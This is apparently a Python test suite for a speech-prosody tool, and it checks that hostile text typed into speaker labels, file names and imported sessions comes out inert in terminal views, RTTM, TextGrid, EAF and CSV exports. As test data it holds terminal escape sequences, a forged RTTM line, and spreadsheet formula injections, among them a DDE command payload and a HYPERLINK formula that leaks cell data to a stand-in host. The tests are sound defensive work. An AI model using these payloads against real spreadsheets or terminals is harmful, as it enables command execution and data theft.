"""Text a person typed is data in every output: the hostile-input sweep.

Each test plants a hostile string where a person types (a speaker label, an
imported file's words, a file name, a profile's source, a manifest's therapist)
and checks that it comes out inert -- no terminal escape reaches the screen,
no line or field is added to RTTM/TextGrid/EAF, no spreadsheet formula runs --
and that an ordinary name comes out unchanged."""
import csv
import io
import json
import xml.etree.ElementTree as ET

import pytest
import soundfile as sf
from rich.console import Console

from prosody.batch.runner import TABLE_COLUMNS, read_table_csv, write_table
from prosody.formats.bundle import Bookmark, SessionMeta
from prosody.formats.eaf import session_eaf
from prosody.formats.frames_csv import frames_csv
from prosody.formats.rttm import segments_rttm
from prosody.formats.textgrid import session_textgrid
from prosody.live.runner import LiveState
from prosody.session import analyze_blocks
from prosody.store.db import Store
from prosody_cli.liveview import live_view, plain_line
from prosody_cli.view import summary_view
from tests import test_live
from tests.conftest import FIXTURES, run_cli

SR = 16000
BLINK = "T\x1b[5;41mZZ[bold]M[/bold]"          # SGR escape + rich markup in a speaker label
OSC = "\x1b[31mred\x1b]0;TITLE\x07 done"       # colour + window-title escape in imported words
FORGED = "t\nSPEAKER fake 1 0.000 99.000 <NA> <NA> EVIL <NA> <NA>\nx"  # a label that forges an RTTM line


@pytest.fixture(scope="module")
def audio():
    x, sr = sf.read(FIXTURES / "dialogue.flac", dtype="float32")
    assert sr == SR
    return x[: 8 * SR]


def _session(audio, speakers):
    return analyze_blocks([audio], tuple(speakers), sources=["rec.wav"])


@pytest.fixture(scope="module")
def forged(audio):
    return _session(audio, (FORGED, 'e f "q"'))


@pytest.fixture(scope="module")
def plain(audio):
    return _session(audio, ("therapist", "client"))


# -- 1. the live view ------------------------------------------------------------------------------------------
def _raw(renderable) -> tuple[str, str]:
    """What reaches a colour terminal (escapes and all) and the text alone."""
    buf = io.StringIO()
    con = Console(width=80, height=24, color_system="truecolor", force_terminal=True, file=buf, record=True)
    con.print(renderable)
    return buf.getvalue(), con.export_text()


def _hostile_state() -> LiveState:
    import dataclasses
    s = test_live._state(speakers=(BLINK, "client"))
    rolling = dataclasses.replace(s.rolling, cues=({"kind": "monologue", "message": f"monologue {BLINK} 95 s"},))
    return dataclasses.replace(s, rolling=rolling, last_gaps=((BLINK, 0.42, "gap"), ("client", -0.2, "overlap")))


def test_live_view_shows_a_typed_label_as_text():
    raw, text = _raw(live_view(_hostile_state()))
    assert "\x1b[5;41m" not in raw and "\x1b[5" not in raw   # the label's own escape never reaches the screen
    assert "T\\x1b[5;41" in text                              # shown, not obeyed
    assert "T\\x1b[5;41mZZ[bold]M[/bold]" in text             # markup stays literal (talk-share line: full label)
    assert "s→T\\x1b[5;41" in text and "monologue T\\x1b" in text
    line = plain_line(_hostile_state())
    assert "\x1b" not in line and "share T\\x1b[5;41mZZ[bold]M[/bold] 62%" in line
    # ordinary labels are unchanged
    _, text = _raw(live_view(test_live._state()))
    assert "therapist  62%" in text and "38% client" in text and "\\x" not in text
    assert "share therapist 62% client 38%" in plain_line(test_live._state())


# -- 2. stored and imported words on the terminal ---------------------------------------------------------------
def _plant(doc: dict) -> dict:
    """``doc`` with hostile words where an imported file may carry them."""
    doc = json.loads(json.dumps(doc))
    m = doc["measures"]
    m["disclaimer"] = OSC
    m["baseline"]["kind"] = "own\x1b[2J"
    cell = {"value": 0.9, "chance_low": -0.5, "chance_high": 0.5, "reading": "beyond chance"}
    m["attunement"] = {"n_exchanges": 3, "note": OSC,
                       **{k: {"pitch": cell, "intensity": cell, "rate": cell, "pi\x1b[2Jtch": cell}
                          for k in ("proximity", "synchrony", "convergence")}}
    return doc


def test_summary_view_shows_imported_words_as_text(plain):
    raw, text = _raw(summary_view(_plant(plain.to_json_dict())))
    assert "\x1b]" not in raw and "\x07" not in raw and "\x1b[31m" not in raw and "\x1b[2J" not in raw
    assert "\\x1b[31mred\\x1b]0;TITLE\\x07 done" in text           # the disclaimer, shown
    assert text.count("\\x1b[31mred") == 2                          # and the attunement note
    raw, text = _raw(summary_view(plain.to_json_dict()))           # ordinary words: unchanged
    assert "\\x" not in text and "not a clinical judgement" in text


def test_show_of_an_imported_session_puts_no_escape_on_the_terminal(plain, tmp_path):
    store = tmp_path / "st"
    with Store(store) as st:
        st.save_session(plain, meta=SessionMeta(therapist="Ann [locum]", client="C7"),
                        bookmarks=[Bookmark(1.0, "sigh")])
    assert run_cli("export", "1", "--store", store, "-o", tmp_path / "s.json")[0] == 0
    d = json.loads((tmp_path / "s.json").read_text())
    (tmp_path / "s.json").write_text(json.dumps({**d, **_plant(d)}))
    rc, out, err = run_cli("import", tmp_path / "s.json", "--new-id", "--store", store)
    assert rc == 0, err
    for argv in (["show", "2"], ["sessions"], ["moments", "2"], ["compare", "1", "2"],
                 ["trend", "--therapist", "Ann [locum]"]):
        rc, out, err = run_cli(*argv, "--store", store)
        assert rc == 0, (argv, err)
        assert "\x1b" not in out + err and "\x07" not in out + err, argv
    out = run_cli("show", "2", "--store", store)[1]
    assert "\\x1b]0;TITLE\\x07" in out and "pi\\x1b[2Jtch" in out and "Ann [locum]" in out
    assert "\\x" not in run_cli("show", "1", "--store", store)[1]


# -- 3. RTTM, TextGrid and EAF ----------------------------------------------------------------------------------
def test_rttm_fields_are_single_tokens(forged, plain):
    lines = segments_rttm(forged.segments, speakers=forged.speakers, uri="nl\nname my").splitlines()
    assert len(lines) == len(forged.segments) > 0
    for line in lines:
        f = line.split(" ")
        assert len(f) == 10 and f[0] == "SPEAKER" and f[1] == "nl_name_my", line
    names = {line.split(" ")[7] for line in lines}
    assert names <= {"t_SPEAKER_fake_1_0.000_99.000_<NA>_<NA>_EVIL_<NA>_<NA>_x", 'e_f_"q"'} and len(names) == 2
    assert not any("EVIL" in x.split(" ")[1] for x in lines)
    # spaces in a file name were `_` before too
    ordinary = segments_rttm(plain.segments, speakers=plain.speakers, uri="my session").splitlines()
    assert {x.split(" ")[7] for x in ordinary} == {"therapist", "client"}
    assert all(x.startswith("SPEAKER my_session 1 ") for x in ordinary)


def test_textgrid_and_eaf_labels_add_no_lines(forged, plain):
    marks = [Bookmark(1.0, 'two\nlines "quoted" \x1b[2J\x01')]
    hostile = session_textgrid(forged.to_json_dict(), bookmarks=marks)
    ordinary = session_textgrid(plain.to_json_dict(), bookmarks=[Bookmark(1.0, "sigh")])
    # the same layout line for line: a label never adds one
    assert len(hostile.splitlines()) == len(ordinary.splitlines())
    assert not any(x.startswith("SPEAKER") for x in hostile.splitlines())
    assert 'name = "t SPEAKER fake 1 0.000 99.000 <NA> <NA> EVIL <NA> <NA> x speech"' in hostile
    assert 'name = "e f ""q"" speech"' in hostile                       # Praat's quote escape
    assert 'mark = "two lines ""quoted""  [2J "' in hostile                  # escape and \\x01: spaces
    assert not any(ord(c) < 32 and c != "\n" for c in hostile)
    assert 'name = "therapist speech"' in ordinary and 'mark = "sigh"' in ordinary
    eaf = session_eaf(forged.to_json_dict(), bookmarks=marks)
    assert not any(ord(c) < 32 and c != "\n" for c in eaf)
    root = ET.fromstring(eaf)                                            # well-formed XML (no raw \x01)
    ids = [t.get("TIER_ID") for t in root.iter("TIER")]
    assert "t SPEAKER fake 1 0.000 99.000 <NA> <NA> EVIL <NA> <NA> x speech" in ids and 'e f "q" speech' in ids
    values = [v.text for v in root.iter("ANNOTATION_VALUE")]
    assert 'two lines "quoted"  [2J ' in values
    ordinary = ET.fromstring(session_eaf(plain.to_json_dict()))
    assert "therapist speech" in [t.get("TIER_ID") for t in ordinary.iter("TIER")]


# -- 4. enrol --list ---------------------------------------------------------------------------------------------
def test_enrol_list_escapes_the_fields_not_its_tabs(tmp_path):
    with Store(tmp_path / "st") as st:
        st.save_profile("Ann [x]", {"v": 1}, source="\x1b]0;pwn\x07.wav")
        st.save_profile("bob", {"v": 1}, source="bob.wav")
    rc, out, err = run_cli("enrol", "--list", "--store", tmp_path / "st")
    assert rc == 0, err
    rows = out.splitlines()
    assert len(rows) == 2 and all(r.count("\t") == 2 and "\\x09" not in r for r in rows)
    assert rows[0].split("\t")[:2] == ["Ann [x]", "\\x1b]0;pwn\\x07.wav"]
    assert rows[1].split("\t")[:2] == ["bob", "bob.wav"]
    assert "\x1b" not in out and "\x07" not in out


# -- 5. CSV opened in a spreadsheet ------------------------------------------------------------------------------
FORMULAS = ('=HYPERLINK("http://x.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx", "'quoted")


def test_batch_table_neutralises_formulas_and_keeps_numbers(tmp_path):
    cols = dict(TABLE_COLUMNS)
    rows = []
    for i, name in enumerate(FORMULAS + ("Ann Smith",)):
        r = {c: None for c in cols}
        r.update(session_id=i + 1, uid=f"u{i}", file=f"/a/{i}\r\nforged,row.wav", therapist=name, client="C-1",
                 tags="-x",
                 duration_s=-0.0 if i == 0 else 61.25, warmth_score=-1.5, turn_taking=True)
        rows.append(r)
    (path,) = write_table(rows, tmp_path / "t", parquet=False)
    with open(path, newline="", encoding="utf-8") as f:
        raw = list(csv.DictReader(f))
    assert len(raw) == len(rows) and all(r["file"].endswith("\r\nforged,row.wav") for r in raw)  # no row added
    for r, name in zip(raw, FORMULAS):
        assert r["therapist"] == "'" + name, r["therapist"]
        assert r["therapist"][0] == "'"
    assert raw[-1]["therapist"] == "Ann Smith" and raw[-1]["client"] == "C-1"   # ordinary text unchanged
    assert all(r["tags"] == "'-x" for r in raw)
    assert all(r["warmth_score"] == "-1.5" and r["session_id"].isdigit() for r in raw)   # numbers are numbers
    assert raw[1]["duration_s"] == "61.25"
    back = read_table_csv(path)                                   # reading back gives what was typed
    assert [r["therapist"] for r in back] == list(FORMULAS) + ["Ann Smith"]
    assert all(r["warmth_score"] == -1.5 and r["tags"] == "-x" for r in back)


def test_frames_csv_speaker_column_is_no_formula(audio):
    s = _session(audio[: 2 * SR], ("=cmd|' /C calc'!A0", "cli\rent"))
    text = frames_csv(s.frames, speakers=s.speakers, n_frames=s.n_frames, grid=s.grid)
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) == 1 + 2 * s.n_frames and all(len(r) == 8 for r in rows)   # a CR in a label adds no row
    speakers = {r[1] for r in rows[1:]}
    assert speakers == {"'=cmd|' /C calc'!A0", "cli\rent"}
    assert all(not r[0].startswith("'") for r in rows[1:])
    assert any(r[4].startswith("-") or r[5].startswith("-") for r in rows[1:])  # negative numbers left alone


def test_typed_text_helpers_leave_ordinary_text_alone():
    from prosody.typed_text import rttm_token, spreadsheet_cell
    for s in ("therapist", "Zoë", "client 2", "a-b", "x=1", "1.5"):
        assert spreadsheet_cell(s) == s
    assert rttm_token("Zoë") == "Zoë" and rttm_token("") == "_" and rttm_token("", empty="session") == "session"
    assert rttm_token("a\u2028b\x85c\u202ed\u00a0e") == "a_b_c_d_e"
